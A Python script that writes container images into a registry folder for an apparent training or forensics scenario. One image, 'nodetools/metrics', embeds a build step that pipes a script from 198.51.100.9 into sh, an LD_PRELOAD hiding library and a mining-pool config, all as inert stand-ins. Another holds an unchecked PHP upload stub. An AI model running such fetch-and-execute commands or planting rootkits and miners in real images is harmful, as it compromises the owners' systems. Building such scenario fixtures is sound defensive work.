"""Lays the story's images as files of a registry: images.py FOLDER"""
import gzip
import hashlib
import io
import json
import pathlib
import sys
import tarfile

ROOT = pathlib.Path(sys.argv[1])
HERE = pathlib.Path(__file__).parent
APPLETS = "sh base64 cat chmod chown cp date echo id ln ls mkdir mv nc printf rm seq sleep test touch true wget"
OCI = "application/vnd.oci.image."
DAY = 1795168800  # 2026-11-20T10:00:00Z


def keep(data):
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    (ROOT / "blobs").mkdir(parents=True, exist_ok=True)
    (ROOT / "blobs" / digest).write_bytes(data)
    return digest


def layer(at, **files):
    """A layer of names to (mode, content): a directory's content is None, a link's a str."""
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, (mode, content) in files.items():
            entry = tarfile.TarInfo(name)
            entry.mode, entry.mtime = mode, at
            if content is None:
                entry.type = tarfile.DIRTYPE
            elif isinstance(content, str):
                entry.type, entry.linkname = tarfile.SYMTYPE, content
            else:
                entry.size = len(content)
            tar.addfile(entry, io.BytesIO(content) if isinstance(content, bytes) else None)
    return plain.getvalue(), gzip.compress(plain.getvalue(), 9, mtime=0)


def image(name, steps, **config):
    """Steps are (command, layer or None), an hour apart from the day on."""
    history, layers, diffs = [], [], []
    for number, (command, made) in enumerate(steps):
        created = f"2026-11-20T{10 + number:02}:00:00.{number + 1}23456789Z"
        history.append({"created": created, "created_by": command, "comment": "buildkit.dockerfile.v0", **({} if made else {"empty_layer": True})})
        if made:
            diffs.append("sha256:" + hashlib.sha256(made[0]).hexdigest())
            layers.append({"mediaType": OCI + "layer.v1.tar+gzip", "digest": keep(made[1]), "size": len(made[1])})
    record = json.dumps({"created": history[-1]["created"], "architecture": "amd64", "os": "linux", "config": config,
                         "rootfs": {"type": "layers", "diff_ids": diffs}, "history": history}).encode()
    manifest = json.dumps({"schemaVersion": 2, "mediaType": OCI + "manifest.v1+json", "layers": layers,
                           "config": {"mediaType": OCI + "config.v1+json", "digest": keep(record), "size": len(record)}}).encode()
    repository, tag = name.split(":")
    (ROOT / repository).mkdir(parents=True, exist_ok=True)
    (ROOT / repository / tag).symlink_to(ROOT / "blobs" / keep(manifest))


def file(text, mode=0o644):
    return mode, text.encode()


FOLDER = (0o755, None)
USERLAND = layer(DAY, **{
    "bin": FOLDER, "bin/busybox": (0o755, (HERE / "busybox").read_bytes()), **{f"bin/{applet}": (0o777, "busybox") for applet in APPLETS.split()},
    "etc": FOLDER, "etc/passwd": file("root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n"),
    "etc/group": file("root:x:0:\nnogroup:x:65534:\n"), "etc/crontab": file("SHELL=/bin/sh\n"),
    "root": (0o700, None), "tmp": (0o1777, None), "usr": FOLDER, "usr/lib": FOLDER, "var": FOLDER, "var/log": FOLDER,
    "var/log/auth.log": file("sshd[77]: Accepted publickey for deploy\n"), "opt": FOLDER, "opt/legacy": FOLDER, "opt/legacy/readme.txt": file("old\n")})
BASE = [("ADD rootfs.tar / # buildkit", USERLAND)]
SERVE = """#!/bin/sh
echo "front $(cat /etc/shop/release) listens on :8080"
trap 'echo "front ends"; exit 137' TERM
n=0
while sleep 1; do n=$((n+1)); echo "GET /item/$n 200"; [ -f /tmp/die ] && { echo "out of memory" >&2; exit 137; }; done
"""

image("pause:3.10", [("COPY pause /pause # buildkit", layer(DAY, pause=(0o755, (HERE / "pause").read_bytes()))),
                     ('ENTRYPOINT ["/pause"]', None)], Entrypoint=["/pause"])
image("shop/front:2.4", BASE + [
    ("COPY site /srv/www # buildkit", layer(DAY + 3600, **{
        "srv": FOLDER, "srv/www": FOLDER, "srv/www/index.html": file("<h1>shop</h1>\n"), "srv/www/upload.php": file("<?php store($_FILES['f']);\n"),
        "srv/www/cache": FOLDER, "srv/www/cache/page.html": file("cached\n"), "usr/bin": FOLDER, "usr/bin/front": file(SERVE, 0o755),
        "etc/shop": FOLDER, "etc/shop/release": file("2.4\n")})),
    ("RUN /bin/sh -c rm -r /opt/legacy # buildkit", layer(DAY + 7200, **{"opt": FOLDER, "opt/.wh.legacy": (0o644, b"")})),
    ('CMD ["/usr/bin/front"]', None)], Cmd=["/usr/bin/front"], Env=["PATH=/usr/bin:/bin"], WorkingDir="/srv/www", ExposedPorts={"8080/tcp": {}})
image("shop/job:1.0", BASE + [('CMD ["sh"]', None)], Cmd=["sh"], Env=["PATH=/usr/bin:/bin"])
image("nodetools/metrics:latest", BASE + [
    ("RUN /bin/sh -c wget -q -O - http://198.51.100.9/m.sh | sh # buildkit", layer(DAY + 3600, **{
        "usr/lib/.cache": FOLDER, "usr/lib/.cache/hide.so": file("\x7fELF stand-in for a library that hides\n", 0o755),
        "usr/lib/.cache/pool.json": file('{"url": "stratum+tcp://198.51.100.9:3333", "user": "FAKE"}\n'),
        "usr/bin": FOLDER, "usr/bin/metrics": file("#!/bin/sh\necho metrics up\nwhile sleep 1; do :; done\n", 0o755)})),
    ("ENV LD_PRELOAD=/usr/lib/.cache/hide.so", None), ('CMD ["/usr/bin/metrics"]', None)],
    Cmd=["/usr/bin/metrics"], Env=["PATH=/usr/bin:/bin", "LD_PRELOAD=/usr/lib/.cache/hide.so"])
